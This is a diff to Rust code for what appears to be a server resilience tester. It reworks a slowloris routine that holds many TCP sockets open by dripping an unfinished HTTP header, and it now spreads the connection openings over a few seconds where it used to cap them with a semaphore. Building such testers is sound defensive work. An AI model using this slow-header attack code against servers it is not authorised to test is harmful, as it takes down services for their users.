@@ -7,7 +7,6 @@ use std::sync::Arc;
 use std::time::Duration;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
-use tokio::sync::Semaphore;
 use tokio::task::JoinSet;
 use tokio::time::{Instant, interval_at, sleep_until, timeout, timeout_at};
 use tokio_tungstenite::tungstenite::Message;
@@ -31,8 +30,8 @@ Exit codes: 0 passed, 1 failed, 2 no verdict.";
 const HEAD_DRIP: Duration = Duration::from_secs(1);
 /// between two bytes of a frame
 const FRAME_DRIP: Duration = Duration::from_secs(5);
-/// connects at once: beyond it the backlog of the listener would be what is measured
-const OPENED_AT_ONCE: usize = 256;
+/// in which all slowloris sockets are opened: all at once would be a flood of connections
+const OPENED_WITHIN: Duration = Duration::from_secs(3);
 /// those that have a time of their own
 const HALF_OPEN: usize = 5;
 /// what a reader that never reads is sent, below every burst limit
@@ -112,15 +111,18 @@ async fn together<F: Future<Output = Life>>(count: usize, one: impl Fn() -> F) -
 
 /// as many as were asked for, and again when they were closed, while there is time for their whole life
 async fn slowloris(attack: &Attack<'_>, header: Duration) -> Result<Vec<Life>> {
-    let (start, turns) = (head_without_end(attack.target), Arc::new(Semaphore::new(OPENED_AT_ONCE)));
+    let (begins, opened_within) = (Instant::now(), OPENED_WITHIN.min(header / 2));
+    let head = Arc::new(head_without_end(attack.target));
     let mut sockets = JoinSet::new();
-    for _ in 0..attack.connections {
+    for number in 0..attack.connections {
         let (target, tally) = (attack.target.clone(), attack.tally.clone());
-        let (start, turns, ends) = (start.clone(), turns.clone(), attack.ends);
+        let (head, ends) = (head.clone(), attack.ends);
+        let turn = begins + opened_within.mul_f64(number as f64 / attack.connections as f64);
         sockets.spawn(async move {
+            sleep_until(turn).await;
             let mut lives = Vec::new();
             while lives.is_empty() || Instant::now() + header < ends {
-                lives.push(drip(&target, &start, &turns, &tally, header).await?);
+                lives.push(drip(&target, &head, &tally, header).await?);
             }
             Ok::<_, anyhow::Error>(lives)
         });
@@ -129,13 +131,11 @@ async fn slowloris(attack: &Attack<'_>, header: Duration) -> Result<Vec<Life>> {
     Ok(all?.concat())
 }
 
-async fn drip(target: &Target, start: &[u8], turns: &Semaphore, tally: &Tally, header: Duration) -> Result<Life> {
-    let turn = turns.acquire().await?;
+async fn drip(target: &Target, head: &[u8], tally: &Tally, header: Duration) -> Result<Life> {
     let mut stream = TcpStream::connect(target.address()).await.context("a slowloris socket")?;
     let born = Instant::now();
-    drop(turn);
     tally.opened.add(1);
-    stream.write_all(start).await.context("a slowloris socket")?;
+    stream.write_all(head).await.context("a slowloris socket")?;
     stream.write_all(b"x-drip: ").await.context("a slowloris socket")?;
     let (mut reader, mut writer) = stream.split();
     let pour = async {
